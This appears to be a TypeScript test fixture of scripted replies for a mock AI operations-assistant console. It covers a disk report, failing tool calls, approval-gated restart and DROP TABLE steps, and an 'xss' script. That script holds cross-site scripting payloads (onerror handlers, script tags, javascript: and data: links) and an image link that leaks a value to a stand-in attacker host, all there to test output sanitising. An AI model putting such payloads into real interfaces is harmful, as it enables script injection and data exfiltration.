import type { Script, ScriptStep } from './script.ts';

const RICH = `## Disk and memory

The machine is **healthy**; one volume deserves a look.

| Mount | Size | Used | Free |
|---|---:|---:|---:|
| \`/\` | 120 GB | 61% | 46.8 GB |
| \`/var\` | 40 GB | **88%** | 4.8 GB |
| \`/data\` | 2 TB | 34% | 1.32 TB |

What I would do next:

1. Find what grows in \`/var\`.
2. Rotate the journal if it is the largest part.

\`\`\`bash
du -xh /var --max-depth=2 | sort -h | tail -n 5
journalctl --disk-usage
\`\`\`

> Memory: 11.2 of 32 GB in use, no swap. See the [runbook](https://example.com/runbook).
`;

const XSS = `Hello <img src=x onerror="document.title='pwned'"> <script>document.title='pwned'</script>

[click me](javascript:document.title='pwned') and [data](data:text/html,<script>1</script>) and [fine](https://example.com/ok)

![chart](https://evil.example/leak.png?q=secret)

<a href="javascript:alert(1)">raw</a> [relative](/plugins/ai-ops/api/sign-out/)`;

const SCRIPTS: Readonly<Record<string, readonly ScriptStep[]>> = {
  'How is this machine doing?': [
    { say: 'Let me look at the disks and the memory.' },
    {
      tool: 'host__disk_usage',
      arguments: { mounts: ['/', '/var', '/data'] },
      result: '/ 61%\n/var 88%\n/data 34%',
      takesMs: 120,
    },
    { tool: 'host__memory', arguments: {}, result: 'total 32 GB, used 11.2 GB, swap 0', takesMs: 60 },
    { say: RICH, perChunkMs: 2 },
  ],
  'run slowly': [
    { say: 'Checking the service before I touch anything.' },
    {
      tool: 'host__service_status',
      arguments: { unit: 'nginx.service', lines: 50 },
      result: 'active (running)',
      takesMs: 86,
    },
    {
      tool: 'host__http_check',
      arguments: { url: 'http://127.0.0.1:8080/health' },
      result: 'ECONNREFUSED',
      fails: true,
      takesMs: 1240,
    },
    {
      tool: 'host__journal',
      arguments: { unit: 'nginx.service', since: '-1h' },
      result: '…',
      takesMs: 60_000,
    },
  ],
  'talk for long': [{ say: 'word '.repeat(400), perChunkMs: 20 }],
  'hold on': [{ say: 'I am thinking it through.' }, { hold: true }, { say: 'Now I know.' }],
  'restart nginx': [
    { say: 'nginx does not answer its health check. A restart should bring it back.' },
    {
      ask: 'host__service_restart',
      arguments: { unit: 'nginx.service', mode: 'replace' },
      note: 'An earlier attempt may have run: its outcome is unknown.',
    },
    { tool: 'host__service_restart', arguments: { unit: 'nginx.service', mode: 'replace' }, result: 'ok' },
    { say: 'nginx is **restarted** and answers again.' },
  ],
  'drop the table': [
    { ask: 'db__execute', effect: 'destructive', arguments: { sql: 'DROP TABLE sessions_2019;' } },
    { say: 'Dropped.' },
  ],
  fail: [{ fail: 'The model’s provider is overloaded. Ask again in a minute.', code: 'overloaded' }],
  xss: [
    {
      tool: 'host__read',
      arguments: { path: '<img src=x onerror=alert(1)>' },
      result: '<script>alert(1)</script>',
    },
    { say: XSS },
  ],
};

/** A model for the console: a few known questions, and an echo for all others. */
export const demoScript: Script = (text) => SCRIPTS[text] ?? [{ say: `You said: ${text}` }];
